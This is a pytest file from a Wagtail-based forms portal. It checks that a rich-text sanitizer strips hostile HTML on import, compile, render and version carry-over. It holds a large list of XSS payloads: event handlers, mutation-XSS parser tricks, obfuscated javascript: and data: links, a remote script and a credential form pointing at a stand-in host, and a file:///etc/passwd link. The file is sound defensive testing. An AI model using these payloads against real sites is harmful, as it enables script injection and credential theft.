"""The gate of rich text: hostile HTML through each way in, and what Wagtail's editor stores through all of them."""

import json
import re
from html import unescape
from html.parser import HTMLParser
from itertools import product
from pathlib import Path

import pytest
from django.template import Context, Template
from wagtail.admin.rich_text.converters.contentstate import ContentstateConverter
from wagtail.models import Locale
from wagtail.rich_text import RichText

from core.rich_html import stored_clean
from core.richtext import body_blocks
from core.templatetags.rich_html import rich_html
from tramites_forms import seed
from tramites_forms.compiler import compile_form
from tramites_forms.document import RICH_TEXTS, digest, nodes
from tramites_forms.exchange import FORMAT, form_from
from tramites_forms.field_types import registered
from tramites_forms.importing import form_import
from tramites_forms.models import FormVersion, FormVersionText
from tramites_forms.versions import carry_translations, version_publish

ALERT = "alert(1)"
ELEMENTS = [
    '<meta http-equiv="refresh" content="0;url=https://malo.example/">',
    f"<script>{ALERT}</script>",
    "<script src=//malo.example/x.js></script>",
    f"<svg onload={ALERT}>",
    f"<svg><script>{ALERT}</script></svg>",
    f'<svg><a xlink:href="javascript:{ALERT}"><text>x</text></a></svg>',
    f'<svg><animate attributeName=href values="javascript:{ALERT}"/></svg>',
    f"<math><mtext><img src=x onerror={ALERT}></mtext></math>",
    f'<math href="javascript:{ALERT}">x</math>',
    "<style>body{display:none}</style>",
    "<link rel=stylesheet href=https://malo.example/x.css>",
    f'<iframe srcdoc="&lt;script&gt;{ALERT}&lt;/script&gt;"></iframe>',
    f"<iframe src=javascript:{ALERT}></iframe>",
    "<object data=https://malo.example/x.swf></object>",
    '<embed src="https://malo.example/x.swf"/>',
    '<embed embedtype="media" url="https://malo.example/"/>',
    '<embed embedtype="image" id="1; drop" format="left"/>',
    "<base href=https://malo.example/>",
    "<form action=https://malo.example/><input name=clave><button>Enviar</button></form>",
    f"<img src=x onerror={ALERT}>",
    f"<video><source onerror={ALERT}></video>",
    f"<details open ontoggle={ALERT}>x</details>",
    f"<body onload={ALERT}>",
    f"<input autofocus onfocus={ALERT}>",
    f"<marquee onstart={ALERT}>x</marquee>",
    f"<template><img src=x onerror={ALERT}></template>",
    f'<noscript><p title="</noscript><img src=x onerror={ALERT}>"></noscript>',
    f"<!--><img src=x onerror={ALERT}>-->",
    f"<!-- --!><img src=x onerror={ALERT}> -->",
    f"<![CDATA[<img src=x onerror={ALERT}>]]>",
    f"<?xml x ><img src=x onerror={ALERT}>?>",
    f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror={ALERT}&gt;'>",
    f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={ALERT}>",
    f"<svg></p><style><a id='</style><img src=1 onerror={ALERT}>'>",
    f"<select><style></select><img src=x onerror={ALERT}></style></select>",
    f"<xmp><p title='</xmp><img src=x onerror={ALERT}>'>",
    f"<textarea><img title='</textarea><img src=x onerror={ALERT}>'>",
    f"<title><a href='</title><img src=x onerror={ALERT}>'>x</a></title>",
    f"<plaintext><img src=x onerror={ALERT}>",
    f"<p onclick={ALERT}>x</p>",
    f'<p style="background:url(javascript:{ALERT})" class="x" id="y">x</p>',
    f'<a href="/" onmouseover="{ALERT}" target=_blank style="position:fixed;inset:0">x</a>',
    f"<a href='\"><img src=x onerror={ALERT}>'>x</a>",
    f'<a linktype="page" id="1" href="javascript:{ALERT}">x</a>',
    f'<a linktype="malo" href="javascript:{ALERT}" id="x">x</a>',
    '<a linktype="document">x</a>',
    '<a linktype="page" id="99999999999999999999999">x</a>',
    '<a linktype="document" id="no">x</a>',
    f"<a/href=javascript:{ALERT}>x",
    "<p data-block-key='\"><script>'>x</p>",
    "<x-malo onclick=1><b>x</b></x-malo>",
]
WRAPS = ["{}", "<p>Antes {}</p>", "<ul><li><b>{}", '<a href="/x">{}</a>']
SCHEMES = ["javascript:alert(1)", "data:text/html,<script>1</script>", "vbscript:x", "file:///etc/passwd", "blob:x"]
DISGUISES = [
    lambda url: url,
    lambda url: url.title(),
    lambda url: " \x01" + url,
    lambda url: url[:3] + "\t" + url[3:],
    lambda url: url[:4] + "&#10;" + url[4:],
    lambda url: "".join(f"&#x{ord(letter):x};" for letter in url),
    lambda url: url.replace(":", "&colon;", 1),
    lambda url: url[:2] + "&#0;" + url[2:],
    lambda url: "&nbsp;" + url,
]
LINKS = [f'<a href="{disguise(url)}">x</a>' for url, disguise in product(SCHEMES, DISGUISES)]
LINKS += ['<a href="\\\\malo.example\\x">x</a>', '<a href="//malo.example/">x</a>', '<a href="/\\malo.example">x</a>']
PAYLOADS = [wrap.format(one) for one, wrap in product(ELEMENTS, WRAPS)] + LINKS

KEYED = {"data-block-key"}
ALLOWED = {
    **dict.fromkeys(["p", "h2", "h3", "h4", "li", "blockquote"], KEYED),
    **{tag: set() for tag in ["b", "strong", "i", "em", "ul", "ol", "br", "hr"]},
    "a": {"href", "linktype", "id"},
}


class Faults(HTMLParser):
    """What stands outside of the list in a text."""

    def __init__(self, html):
        super().__init__()
        self.found = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag, attrs):
        if tag not in ALLOWED:
            self.found.append(tag)
        for name, value in attrs:
            if name not in ALLOWED.get(tag, ()):
                self.found.append((tag, name))
            if name == "href":
                plain = "".join(letter for letter in unescape(value) if letter > " ").lower()
                scheme = re.match(r"([^/?#]*):", plain)
                if plain.startswith(("//", "/\\")) or (scheme and scheme[1] not in {"http", "https", "mailto", "tel"}):
                    self.found.append((tag, name, value))
            if name in {"id", "linktype"} and not (value.isdigit() or value in {"page", "document"}):
                self.found.append((tag, name, value))

    def handle_comment(self, data):
        self.found.append(("comment", data))

    handle_decl = handle_pi = unknown_decl = handle_comment


def faults(html):
    return Faults(html).found


def file_of(html, *, english=None):
    """Return the JSON (dict) of a form with a payload in each of its rich texts."""
    texts = {"es": html, "en": html if english is None else english}
    words = {"es": "Título", "en": "Title"}
    return {
        "format": FORMAT,
        "language": "es",
        "languages": ["es", "en"],
        "slug": "hostil",
        "level": 0,
        "receiver": "Oficina",
        "title": words,
        **dict.fromkeys(["needs", "privacy_text", "sent_text"], texts),
        "steps": [
            {
                "type": "step",
                "title": words,
                "key": "paso",
                "intro": texts,
                "fields": [
                    {"type": "information", "body": texts},
                    {"type": "text", "label": words, "key": "nombre"},
                ],
            },
            {"type": "end", "title": words, "key": "fin", "intro": texts, "when": []},
        ],
    }


def rich_texts(document):
    return {
        (node_id, name): text
        for node_id, node in nodes(document)
        for name, text in node["text"].items()
        if name in RICH_TEXTS
    }


def dirty_form(html):
    """Return a form that reads as a file does, with its rich texts as if they had come in without a gate."""
    form = form_from(file_of("@@"), "es")
    form.locale = Locale(language_code="es")
    for name in ("needs", "privacy_text", "sent_text"):
        setattr(form, name, html)
    step, end = form.steps
    step.value["intro"] = end.value["intro"] = step.value["fields"][0].value["body"] = RichText(html)
    return form


def test_there_are_enough_payloads_and_the_check_sees_them():
    assert len(set(PAYLOADS)) >= 200
    assert sum(bool(faults(payload)) for payload in PAYLOADS) > 0.9 * len(PAYLOADS)


@pytest.mark.parametrize("images", [False, True])
def test_nothing_outside_the_list_leaves_the_cleaner(images):
    for payload in PAYLOADS:
        cleaned = stored_clean(payload, images=images)
        references = {"embed", ("embed", "embedtype"), ("embed", "id"), ("embed", "format")} if images else set()
        assert set(faults(cleaned)) <= references, payload
        assert stored_clean(cleaned, images=images) == cleaned, payload


@pytest.mark.parametrize("language", ["es", "en"])
def test_nothing_outside_the_list_comes_in_with_a_file(language):
    for payload in PAYLOADS:
        form = form_from(file_of(payload), language)
        step, end = form.steps
        body = step.value["fields"][0].value["body"]
        texts = [form.needs, form.privacy_text, form.sent_text]
        texts += [step.value["intro"].source, end.value["intro"].source, body.source]
        for text in texts:
            assert faults(text) == [], payload


def test_nothing_outside_the_list_is_compiled():
    for payload in PAYLOADS:
        texts = rich_texts(compile_form(dirty_form(payload)))
        assert len(texts) >= 5
        for text in texts.values():
            assert faults(text) == [], payload


@pytest.mark.django_db
def test_nothing_outside_the_list_is_shown_though_it_was_published_before():
    shared = Template("{% load wagtailcore_tags %}{{ text|richtext }}")
    information = registered()["information"]
    for payload in PAYLOADS:
        assert faults(rich_html(payload)) == [], payload
        field = information({"id": "x", "key": "x", "type": "information", "text": {"body": payload}})
        assert set(faults(field.html())) <= {"div", ("div", "class")}, payload
    for payload in PAYLOADS:
        if "linktype" not in payload and "embedtype" not in payload:  # Wagtail stops at references without their parts
            pictures = {"img", ("img", "src"), ("img", "alt")}  # pages of the portal have pictures
            assert set(faults(shared.render(Context({"text": payload})))) <= pictures, payload
            assert set(faults(str(RichText(payload)))) <= pictures, payload


@pytest.mark.django_db
def test_programs_get_no_link_that_acts():
    class Block:
        block_type = "paragraph"

        def __init__(self, html):
            self.value = RichText(html)

    for payload in LINKS:
        for block in body_blocks([Block(payload)], "https://portal.example"):
            for run in block["runs"]:
                assert "href" not in run, payload


@pytest.fixture
def languages(db):
    for code in ("es", "en"):
        Locale.objects.get_or_create(language_code=code)


ALL_AT_ONCE = "<p>Bien</p>" + "".join(ELEMENTS[:24]) + "<p>Fin</p>"


def test_a_hostile_file_is_imported_and_published_clean_in_both_languages(
    languages, client, django_capture_on_commit_callbacks
):
    payload = '<p>Bien</p><meta http-equiv="refresh" content="0;url=https://malo.example/"><p onclick="x()">Fin</p>'
    data = file_of(payload)
    data["steps"].pop()
    form, wrong = form_import(json.dumps(data))
    assert wrong == [] and form.privacy_text == "<p>Bien</p><p>Fin</p>"
    with django_capture_on_commit_callbacks(execute=True):
        form.save_revision().publish()
        for one in form.get_translations():
            one.save_revision().publish()
    version = form.current_version()
    assert {text.language for text in version.texts.all()} == {"es", "en"}
    for text in version.texts.all():
        for node in text.content.values():
            for name in RICH_TEXTS & set(node):
                assert faults(node[name]) == [] and "malo.example" not in node[name]


def test_texts_of_an_older_version_are_clean_in_the_next(languages):
    form = form_from(file_of("<p>Bien</p>"), "es")
    form.locale, form.live = Locale.objects.get(language_code="es"), False
    form.save()
    old = version_publish(form)
    dirty = {node_id: {**node["text"]} for node_id, node in nodes(old.document)}
    dirty["form"]["privacy"] = ALL_AT_ONCE
    FormVersionText.objects.create(version=old, language="en", content=dirty, content_hash=digest(dirty))
    form.retention_days = 400
    document = compile_form(form)
    new = FormVersion.objects.create(form=form, number=2, document=document, content_hash=digest(document))
    carry_translations(old, new)
    assert faults(new.texts.get(language="en").content["form"]["privacy"]) == []


def test_a_version_published_before_the_gate_is_shown_clean(languages, client):
    form = form_from(file_of("<p>Bien</p>"), "es")
    form.locale, form.live = Locale.objects.get(language_code="es"), True
    form.save()
    document = compile_form(form)
    hostile = '<p>Bien</p><meta http-equiv="refresh" content="0;url=https://malo.example/"><a href="javascript:x">y</a>'
    for _node_id, node in nodes(document):
        node["text"].update(dict.fromkeys(RICH_TEXTS & set(node["text"]), hostile))
    content = {node_id: node["text"] for node_id, node in nodes(document)}
    version = FormVersion.objects.create(form=form, number=1, document=document, content_hash=digest(document))
    FormVersionText.objects.create(version=version, language="es", content=content, content_hash=digest(content))
    page = client.get("/formularios/hostil/", follow=True)
    body = page.content.decode()
    assert page.status_code == 200 and "<p>Bien</p>" in body
    assert "malo.example" not in body and "javascript:x" not in body


@pytest.mark.parametrize("wrong", [1, None, [], {"a": 1}])
def test_a_text_that_is_no_text_makes_no_form(languages, wrong):
    data = file_of("<p>x</p>")
    data["privacy_text"] = {"es": wrong or 7, "en": "x"}
    form, messages = form_import(json.dumps(data))
    assert form is None and messages


def blocks_of(*blocks):
    """Return the content of Draftail's editor, as it comes from the browser."""
    entities, made = {}, []
    for place, (kind, text, styles, entity) in enumerate(blocks):
        ranges = []
        if entity:
            entities[str(place)] = {"mutability": "MUTABLE", **entity}
            ranges = [{"offset": 0, "length": len(text), "key": place}]
        styled = [{"offset": 0, "length": len(text), "style": style} for style in styles]
        made.append(
            {"key": f"ab{place:03}", "text": text, "type": kind, "depth": 0, "inlineStyleRanges": styled}
            | {"entityRanges": ranges}
        )
    return json.dumps({"blocks": made, "entityMap": entities})


URLS = [
    "https://www.gob.cu/a?b=1&c=«x»",
    "http://[::1]:8000/",
    "mailto:ana@example.cu?subject=Hola mundo",
    "tel:+5378300000",
    "/tramites/",
    "#abajo",
]
EDITED = [
    ("bold", ("unstyled", 'Llame & espere: 3 < 4 > 2 "ya" ñ\u00a0—', ["BOLD"], None)),
    ("italic", ("unstyled", "Así", ["ITALIC"], None)),
    ("ul", ("unordered-list-item", "Uno", [], None)),
    ("ol", ("ordered-list-item", "Dos", ["BOLD"], None)),
    ("h2", ("header-two", "Título", [], None)),
    ("h3", ("header-three", "Título", [], None)),
    ("h4", ("header-four", "Título", [], None)),
    ("blockquote", ("blockquote", "Dijo", [], None)),
    ("hr", ("atomic", " ", [], {"type": "HORIZONTAL_RULE", "data": {}})),
    ("bold", ("unstyled", "Una\nOtra", [], None)),
    ("link", ("unstyled", "Página", [], {"type": "LINK", "data": {"id": 3, "url": "/x/"}})),
    ("document-link", ("unstyled", "Papel", [], {"type": "DOCUMENT", "data": {"id": 7, "url": "/d/"}})),
    *[("link", ("unstyled", "Enlace", ["BOLD"], {"type": "LINK", "data": {"url": url}})) for url in URLS],
]


@pytest.mark.django_db
@pytest.mark.parametrize(("feature", "block"), EDITED)
def test_what_the_editor_stores_comes_back_byte_for_byte(feature, block):
    features = ["bold", "italic", feature]
    stored = ContentstateConverter(features).to_database_format(blocks_of(("unstyled", "Antes", [], None), block))
    assert block[1].strip().split("\n")[0][:3] in stored
    assert stored_clean(stored) == stored
    assert stored_clean(stored, images=True) == stored


def test_a_picture_passes_only_where_pictures_may_be():
    picture = '<embed alt="Un plano &amp; más" embedtype="image" format="fullwidth" id="3"/>'
    assert stored_clean(picture, images=True) == picture
    assert stored_clean(f"<p>x</p>{picture}") == "<p>x</p>"


@pytest.mark.parametrize(
    "text", ["", "Solo palabras & más > menos", "<p>a &amp; b&nbsp;c &quot;d&quot; 'e'</p>\r\n<hr/>"]
)
def test_words_alone_and_other_spellings_of_the_same_stay_as_they_are(text):
    assert stored_clean(text) == text


@pytest.mark.parametrize("path", sorted(Path(seed.FILES).glob("*.json")), ids=lambda path: path.stem)
def test_forms_of_the_seed_keep_their_bytes(path):
    data = json.loads(path.read_text())

    def walk(value):
        if isinstance(value, dict):
            for one in value.values():
                walk(one)
        elif isinstance(value, list):
            for one in value:
                walk(one)
        elif isinstance(value, str) and "<" in value and value.startswith("<"):
            assert stored_clean(value) == value

    walk(data)
